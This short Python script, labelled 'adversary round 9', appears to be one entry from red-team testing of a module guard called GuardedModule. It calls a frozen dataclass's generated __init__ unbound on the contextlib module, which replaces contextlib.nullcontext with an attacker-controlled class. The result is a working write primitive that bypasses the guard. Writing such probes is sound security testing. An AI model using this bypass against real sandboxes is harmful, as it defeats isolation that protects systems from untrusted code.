# adversary round 9: Tries: a frozen dataclass's generated __init__ writes with object.__setattr__; calling W.__init__ unbound with self=a module (contextlib) writes any non-refused field name into the module past GuardedModule (write primitive; sink: replace contextlib.nullcontext)
import contextlib
import dataclasses

@dataclasses.dataclass(frozen=True)
class W:
    nullcontext: object

class Mine:
    def __init__(self, *a):
        self.a = a
    def __enter__(self):
        return "planted"
    def __exit__(self, *e):
        return False

W.__init__(contextlib, Mine)
with contextlib.nullcontext() as v:
    print("contextlib.nullcontext is now the program's:", contextlib.nullcontext is Mine, v)
